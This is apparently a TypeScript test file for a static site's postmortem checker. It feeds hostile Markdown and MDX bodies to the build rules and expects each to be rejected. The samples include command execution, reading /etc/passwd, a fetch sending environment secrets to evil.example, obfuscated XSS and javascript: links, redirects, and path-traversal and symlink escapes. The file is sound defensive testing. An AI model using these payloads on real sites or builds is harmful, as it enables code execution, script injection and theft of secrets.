/**
 * The hostile-input catalogue: bodies written to run code at build time, script
 * or redirect the site, or leak internal text, each rejected by `check` at its
 * line with its rule. The same rules run in the build (`BUILD_RULES`);
 * `tests/hostile/builds.test.ts` proves the wiring with real builds.
 */
import { symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { checkFiles, expectRejected, postmortem } from './catalogue';

/** Line of the body's first line in a file made by `postmortem()`: 9 frontmatter lines, then a blank one. */
const BODY = 11;

/** One case: a body (its offending line first), the file's extension and the rule that must reject it. */
interface Case {
  name: string;
  body: string;
  rule: string;
  ext?: 'md' | 'mdx';
  /** Line of the offence within the body (1 = its first line). */
  at?: number;
}

/** Cases written in one extension unless they name another. */
function inExtension(ext: 'md' | 'mdx', cases: Case[]): Case[] {
  return cases.map((item) => ({ ext, ...item }));
}

const mdxCode = inExtension('mdx', [
  {
    name: 'child_process through getBuiltinModule',
    body: "{globalThis.process.getBuiltinModule('child_process').execSync('id').toString()}",
    rule: 'mdx-expressions',
  },
  { name: 'an environment secret', body: 'The key is {process.env.SOME_SECRET}.', rule: 'mdx-expressions' },
  { name: 'require of fs', body: "{require('fs').readFileSync('/etc/passwd', 'utf8')}", rule: 'mdx-expressions' },
  {
    name: 'a dynamic import',
    body: "{await import('node:fs').then((fs) => fs.readdirSync('/'))}",
    rule: 'mdx-expressions',
  },
  { name: 'the Function constructor', body: "{Function('return process.env')()}", rule: 'mdx-expressions' },
  {
    name: 'fetch to send data out',
    body: "{fetch('https://evil.example/?' + JSON.stringify(process.env))}",
    rule: 'mdx-expressions',
  },
  { name: 'an expression inside a list item', body: '- first\n- {1 + 1}', rule: 'mdx-expressions', at: 2 },
  {
    name: 'an expression inside a table cell',
    body: '| a |\n|---|\n| {process.env.HOME} |',
    rule: 'mdx-expressions',
    at: 3,
  },
  { name: 'an expression in an attribute', body: '<a href={"javascript:alert(1)"}>x</a>', rule: 'mdx-expressions' },
  {
    name: 'an expression in a component prop',
    body: '<Internal note={process.env.TOKEN}>x</Internal>',
    rule: 'mdx-expressions',
  },
  { name: 'a spread attribute', body: '<img {...{ src: "x", onError: "alert(1)" }} />', rule: 'mdx-expressions' },
  { name: 'a thrown error', body: "{(() => { throw new Error('boom') })()}", rule: 'mdx-expressions' },
  { name: 'a comment hiding code after it', body: '{/* ok */ process.exit(1)}', rule: 'mdx-expressions' },
  { name: 'set:html on an element', body: '<div set:html="<script>alert(1)</script>" />', rule: 'safe-html' },
  { name: 'set:text on an element', body: '<p set:text="x" />', rule: 'safe-html' },
  { name: 'an export', body: 'export const secret = process.env.TOKEN;', rule: 'mdx-imports' },
  { name: 'an import from node', body: "import fs from 'node:fs';", rule: 'mdx-imports' },
  { name: 'an import from a package', body: "import { execSync } from 'child_process';", rule: 'mdx-imports' },
  {
    name: 'an import of a project file outside the MDX components',
    body: "import config from '../src/site.config.ts';",
    rule: 'mdx-imports',
  },
  { name: 'an unknown component', body: '<Chart data="x" />', rule: 'mdx-components' },
  { name: 'a member component', body: '<Astro.self />', rule: 'mdx-components' },
  { name: 'a fragment', body: '<>text</>', rule: 'mdx-components' },
  { name: 'an unknown prop on Internal', body: '<Internal audience="public">x</Internal>', rule: 'mdx-components' },
  { name: 'lowercase internal in MDX', body: '<internal>the runbook</internal>', rule: 'mdx-components' },
  { name: 'uppercase INTERNAL in MDX', body: '<INTERNAL>the runbook</INTERNAL>', rule: 'mdx-components' },
]);

const html = inExtension('md', [
  {
    name: 'a meta refresh',
    body: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    rule: 'safe-html',
  },
  { name: 'a script element', body: '<script>alert(1)</script>', rule: 'safe-html' },
  { name: 'a script in mixed case', body: '<ScRiPt>alert(1)</ScRiPt>', rule: 'safe-html' },
  { name: 'a style element', body: '<style>body { display: none }</style>', rule: 'safe-html' },
  { name: 'a base element', body: '<base href="https://evil.example/">', rule: 'safe-html' },
  { name: 'a form', body: '<form action="https://evil.example/"><button>Go</button></form>', rule: 'safe-html' },
  { name: 'an object', body: '<object data="x.swf"></object>', rule: 'safe-html' },
  { name: 'an embed', body: '<embed src="x.swf">', rule: 'safe-html' },
  { name: 'a stylesheet link', body: '<link rel="stylesheet" href="https://evil.example/x.css">', rule: 'safe-html' },
  { name: 'an iframe', body: '<iframe src="https://evil.example/"></iframe>', rule: 'safe-html' },
  { name: 'an svg with a script', body: '<svg><script>alert(1)</script></svg>', rule: 'safe-html' },
  { name: 'a body tag with onload', body: '<body onload="alert(1)">', rule: 'safe-html' },
  { name: 'an event handler', body: '<img src="a.png" onerror="alert(1)">', rule: 'safe-html' },
  {
    name: 'an unquoted event handler after a quoted >',
    body: '<div title="a>b" onmouseover=alert(1)>x</div>',
    rule: 'safe-html',
  },
  { name: 'a style attribute', body: '<p style="position:fixed;inset:0">x</p>', rule: 'safe-html' },
  { name: 'a JSX event handler in MDX', body: '<div onClick="alert(1)">x</div>', rule: 'safe-html', ext: 'mdx' },
  { name: 'a JSX style in MDX', body: '<div style="display:none">x</div>', rule: 'safe-html', ext: 'mdx' },
  { name: 'a JSX iframe in MDX', body: '<iframe src="https://evil.example/" />', rule: 'safe-html', ext: 'mdx' },
  {
    name: 'a JSX meta refresh in MDX',
    body: '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    rule: 'safe-html',
    ext: 'mdx',
  },
  {
    name: 'a tag on the third line of a block',
    body: '<div>\n<p>ok</p>\n<script>alert(1)</script>\n</div>',
    rule: 'safe-html',
    at: 3,
  },
]);

const links = inExtension('md', [
  { name: 'a javascript: link', body: '[click](javascript:alert(1))', rule: 'safe-links' },
  { name: 'a javascript: link in mixed case', body: '[click](JaVaScRiPt:alert(1))', rule: 'safe-links' },
  { name: 'a vbscript: link', body: '[click](vbscript:msgbox(1))', rule: 'safe-links' },
  { name: 'a data: HTML link', body: '[click](data:text/html,<script>alert(1)</script>)', rule: 'safe-links' },
  { name: 'a protocol-relative link', body: '[click](//evil.example/path)', rule: 'safe-links' },
  { name: 'a javascript: definition', body: '[click][x]\n\n[x]: javascript:alert(1)', rule: 'safe-links', at: 3 },
  {
    name: 'a javascript: href with an entity tab',
    body: '<a href="java&#x09;script:alert(1)">x</a>',
    rule: 'safe-links',
  },
  { name: 'a javascript: href with a raw tab', body: '<a href="java\tscript:alert(1)">x</a>', rule: 'safe-links' },
  {
    name: 'a javascript: href with entities for every letter',
    body: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    rule: 'safe-links',
  },
  {
    name: 'a data: image source in HTML',
    body: '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    rule: 'safe-links',
  },
  {
    name: 'a javascript: srcset candidate',
    body: '<img src="a.png" srcset="a.png 1x, javascript:alert(1) 2x">',
    rule: 'safe-links',
  },
  { name: 'a javascript: cite', body: '<blockquote cite="javascript:alert(1)">x</blockquote>', rule: 'safe-links' },
  {
    name: 'a JSX javascript: href in MDX',
    body: '<a href="javascript:alert(1)">x</a>',
    rule: 'safe-links',
    ext: 'mdx',
  },
  { name: 'a file: link', body: '[passwd](file:///etc/passwd)', rule: 'safe-links' },
]);

const images = inExtension('md', [
  { name: 'an image outside the content folder', body: '![x](../../elsewhere/x.png)', rule: 'image-exists' },
  { name: 'an absolute image path', body: '![x](/etc/x.png)', rule: 'image-exists' },
  { name: 'a file: image', body: '![x](file:///etc/x.png)', rule: 'image-exists' },
  { name: 'an SVG image', body: '![diagram](./diagram.svg)', rule: 'image-exists' },
  {
    name: 'a missing image after a remote one',
    body: '![a](https://example.com/a.png)\n\n![b](./missing.png)',
    rule: 'image-exists',
    at: 3,
  },
  {
    name: 'a raw HTML image outside the content folder',
    body: '<img src="../../secret.png" alt="x">',
    rule: 'image-exists',
  },
  {
    name: 'a JSX image outside the content folder',
    body: '<img src="../../secret.png" alt="x" />',
    rule: 'image-exists',
    ext: 'mdx',
  },
]);

/** A chart's data file is read at build time: it must stay inside the content folder like an image. */
const chartData = inExtension('mdx', [
  {
    name: 'chart data from outside the content folder',
    body: '<MetricChart src="../../../../etc/passwd.csv" y="x" label="x" />',
    rule: 'metric-chart',
  },
  {
    name: 'chart data from an absolute path',
    body: '<MetricChart src="/etc/passwd.csv" y="x" label="x" />',
    rule: 'metric-chart',
  },
  {
    name: 'chart data from a URL',
    body: '<MetricChart src="https://evil.example/data.csv" y="x" label="x" />',
    rule: 'metric-chart',
  },
  {
    name: 'chart data from a file: URL',
    body: '<MetricChart src="file:///etc/passwd.csv" y="x" label="x" />',
    rule: 'metric-chart',
  },
  {
    name: 'chart data that is the project’s own JSON',
    body: '<MetricChart src="../package.json" y="version" label="x" />',
    rule: 'metric-chart',
  },
  {
    name: 'a chart prop naming the postmortem file the build passes in',
    body: '<MetricChart src="./a.csv" y="x" label="x" postmortemFile="/etc/passwd" />',
    rule: 'mdx-components',
  },
]);

const internal: Case[] = [
  {
    name: '<Internal> in Markdown',
    body: '<Internal>\nThe runbook is in the wiki.\n</Internal>',
    rule: 'internal-passages',
    ext: 'md',
  },
  {
    name: 'lowercase <internal> in Markdown',
    body: '<internal>\nThe runbook is in the wiki.\n</internal>',
    rule: 'internal-passages',
    ext: 'md',
  },
  {
    name: 'a footnote reference to a definition inside <Internal>',
    body: 'Failover took a while.[^runbook]\n\n<Internal>\n[^runbook]: The runbook is at wiki/orders-db.\n</Internal>',
    rule: 'internal-passages',
    ext: 'mdx',
  },
  {
    name: 'a link reference to a definition inside <Internal>',
    body: 'See [the runbook][rb].\n\n<Internal>\n[rb]: https://wiki.internal.example/rb\n</Internal>',
    rule: 'internal-passages',
    ext: 'mdx',
  },
];

describe.each([
  ['MDX that would run code', mdxCode],
  ['HTML that would script or restyle the site', html],
  ['URLs that would run code or leave the site', links],
  ['images from outside the content folder', images],
  ['chart data from outside the content folder', chartData],
  ['internal passages that would leak', internal],
])('%s', (_title, cases) => {
  test.each(cases)('rejects $name', async ({ body, rule, ext, at = 1 }) => {
    const result = await checkFiles({ [`2024-03-14-checkout.${ext}`]: postmortem(body) });
    expectRejected(result, { rule, line: BODY + at - 1, file: `2024-03-14-checkout.${ext}` });
  });
});

describe('what stays allowed', () => {
  test.each([
    ['a comment in MDX', '{/* reviewers: check the graph */}\n\nText.', 'mdx'],
    ['a literal brace in MDX', 'The config was `\\{ "pool": 5 }` and \\{ this \\}.', 'mdx'],
    ['an <Internal> passage in MDX', '<Internal>\nThe runbook is in the wiki.\n</Internal>', 'mdx'],
    ['details and summary', '<details>\n<summary>Logs</summary>\n\nThe log.\n\n</details>', 'md'],
    ['a table with colspan', '<table><tr><td colspan="2">x</td></tr></table>', 'md'],
    [
      'links of every allowed kind',
      '[a](https://x.example) [b](http://x.example) [c](mailto:a@x.example) [d](./other/) [e](#root-cause)',
      'md',
    ],
    ['a remote image', '![graph](https://grafana.example/x.png)', 'md'],
    ['an HTML comment in Markdown (never published)', '<!-- TODO for reviewers -->\n\nText.', 'md'],
    [
      'a footnote defined and used inside <Internal>',
      '<Internal>\nSee the runbook.[^r]\n\n[^r]: wiki/orders-db\n</Internal>',
      'mdx',
    ],
  ])('accepts %s', async (_name, body, ext) => {
    const result = await checkFiles({ [`2024-03-14-checkout.${ext}`]: postmortem(body) });
    const safety = result.problems.filter((problem) =>
      [
        'mdx-expressions',
        'mdx-components',
        'mdx-imports',
        'safe-html',
        'safe-links',
        'internal-passages',
        'image-exists',
        'syntax',
      ].includes(problem.rule),
    );
    expect(safety).toEqual([]);
  });

  test('an image next to the postmortem, and one in a subfolder', async () => {
    const result = await checkFiles({
      '2024-03-14-checkout.md': postmortem('![a](./a.png)\n\n![b](images/b.png)'),
      'a.png': 'PNG',
      'images/b.png': 'PNG',
    });
    expect(result.problems.filter((problem) => problem.rule === 'image-exists')).toEqual([]);
  });
});

test('rejects an image that is a symbolic link to a file outside the content folder', async () => {
  const result = await checkFiles(
    { '2024-03-14-checkout.md': postmortem('![x](./leak.png)') },
    {
      setup: (root, contentDir) => {
        writeFileSync(join(root, 'outside.png'), 'PNG');
        symlinkSync(join(root, 'outside.png'), join(contentDir, 'leak.png'));
      },
    },
  );
  expectRejected(result, { rule: 'image-exists', line: BODY });
  expect(result.problems.find((problem) => problem.rule === 'image-exists')?.message).toContain(
    'outside the content folder',
  );
});

test('rejects chart data that is a symbolic link out of the content folder, or too large to draw', async () => {
  const result = await checkFiles(
    {
      '2024-03-14-checkout.mdx': postmortem(
        '<MetricChart src="./leak.csv" y="x" label="x" />\n\n<MetricChart src="./huge.csv" y="x" label="x" />',
      ),
      'huge.csv': `time,x\n${'2024-03-14T09:12:00Z,1\n'.repeat(20_000)}`,
    },
    {
      setup: (root, contentDir) => {
        writeFileSync(join(root, 'outside.csv'), 'time,x\n');
        symlinkSync(join(root, 'outside.csv'), join(contentDir, 'leak.csv'));
      },
    },
  );
  const messages = result.problems.filter((problem) => problem.rule === 'metric-chart');
  expect(messages.map((problem) => problem.line)).toEqual([BODY, BODY + 2]);
  expect(messages[0]?.message).toContain('is a link to a file outside the content folder');
  expect(messages[1]?.message).toContain('is 450 kB, over the 256 kB a chart reads');
});
